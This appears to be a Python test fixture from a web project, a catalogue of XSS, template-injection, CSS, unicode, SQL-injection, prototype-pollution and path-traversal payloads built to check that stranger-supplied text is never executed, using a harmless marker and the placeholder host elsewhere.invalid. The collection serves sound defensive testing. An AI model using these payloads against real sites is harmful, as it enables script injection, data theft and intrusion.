"""What a stranger may write in the hope that a browser does more than show it: payloads by kind, made by us.

Each would set `window.__ran` or open a dialog if it ran, ask the host elsewhere.invalid, or leave an element
`x-ray` or an attribute behind that no page of ours has.
"""

RUN = "window.__ran=1"
BREAKOUTS = (
    '">',
    "'>",
    '"/>',
    "-->",
    "]]>",
    "</textarea>",
    "</title>",
    "</style>",
    "</svg>",
    "</option></select>",
)

TAGS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<script\n>{RUN}</script\t>",
    "<script src=//elsewhere.invalid/a.js></script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f'<noscript><p title="</noscript><script>{RUN}</script>">',
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    "<object data='data:text/html,<script>parent.__ran=1</script>'></object>",
    "<embed src='//elsewhere.invalid/a.swf'>",
    "<base href='//elsewhere.invalid/'>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.invalid/'>",
    "<link rel=stylesheet href=//elsewhere.invalid/a.css>",
    "<form action=//elsewhere.invalid/><button>Go</button></form>",
    "<template><x-ray></x-ray></template><x-ray>",
    "<portal src=//elsewhere.invalid/></portal>",
    "<plaintext>",
    "<xmp><x-ray></xmp>",
    "<!--><x-ray>-->",
    "<![CDATA[<x-ray>]]>",
    "<?xml version='1.0'?><x-ray/>",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img src='x'onerror='{RUN}'>",
    f"<img/src=x/onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<p onpointerenter={RUN} style=position:fixed;inset:0>x</p>",
    f"<style onload={RUN}></style>",
    f"<dialog open onclose={RUN}><form method=dialog><button autofocus></button></form></dialog>",
)
ATTRIBUTES = (
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'" autofocus onfocus="{RUN}" x="',
    f"x onclick={RUN}",
    f'"><x-ray onclick="{RUN}">',
    "` onmouseover=`alert(1)",
    f'" style="animation:x" onanimationstart="{RUN}',
    '" href="javascript:alert(1)" x="',
    '" formaction="javascript:alert(1)',
    '" srcdoc="<x-ray>',
    '" popover id="main',
    "&quot; onmouseover=&quot;alert(1)",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f" javascript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript://elsewhere.invalid/%0a{RUN}",
    "data:text/html,<script>parent.__ran=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW49MTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//elsewhere.invalid/",
    "https:elsewhere.invalid",
    'https://elsewhere.invalid/"><x-ray>',
    f"https://news.invalid/' onclick='{RUN}",
    "blob:https://elsewhere.invalid/1",
    "file:///etc/hostname",
    "/\\elsewhere.invalid",
    "../../../../sign-in?x=1#main",
)
DRAWINGS = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg/>#x'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<svg></p><style><g title="</style><img src onerror={RUN}>">',
)
TEMPLATES = (
    "{{1337*1331}}",
    "{% for x in range(1337*1331) %}x{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "${1337*1331}",
    "#{1337*1331}",
    "<%= 1337*1331 %>",
    "{{constructor.constructor('window.__ran=1')()}}",
    "{0.__class__}%(path)s%s%n",
)
CHARACTERS = (
    "\u202egnp.exe <x-ray>",
    "\u2066\u202d<x-ray>\u2069",
    "\u200b\ufeff\u00ad<x-ray>",
    "\x1b[31m\x1b]0;x\x07<x-ray>",
    "\x85\x7f\x9b31m<x-ray>",
    "\ud800<x-ray>",
    "\ufdd0\uffff<x-ray>",
    f"＜script＞{RUN}＜/script＞",
    f"\u02bascript\u02ba ʺonerror={RUN}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "&lt;x-ray&gt;&#60;x-ray&#62;&#x3c;x-ray&#x3e;&lt",
    "%3Cx-ray%3E%22%27\\x3cx-ray\\u003c",
    "a\r\nSet-Cookie: x=1\r\n\r\n<x-ray>",
    "A" * 600 + "<x-ray>",
    "Z\u0351\u0352\u0353" * 60,
    "مرحبا <x-ray> \u061c\u200f",
)
STYLES = (
    "</style><style>*{display:none}</style>",
    "x{}*{background:url(//elsewhere.invalid/x)}",
    "red;background:url(//elsewhere.invalid/x)",
    'k0 v-held" class="hidden',
    "<style>@import '//elsewhere.invalid/a.css'</style>",
)
MARKUPS = (
    "2031-05-<x-ray>",
    "1e999",
    "'; DROP TABLE statement; --",
    '{"__proto__":{"x":1}}',
    "../../etc/passwd<x-ray>.txt",
)

PAYLOADS = tuple(
    dict.fromkeys(
        [
            *TAGS, *HANDLERS, *ATTRIBUTES, *ADDRESSES, *DRAWINGS, *TEMPLATES, *CHARACTERS, *STYLES, *MARKUPS,
            *(f"{end}<x-ray onclick={RUN}>" for end in BREAKOUTS),
        ]
    )
)  # fmt: skip
# What no page may hold unless a template was run by words of a stranger.
COMPUTED = str(1337 * 1331)
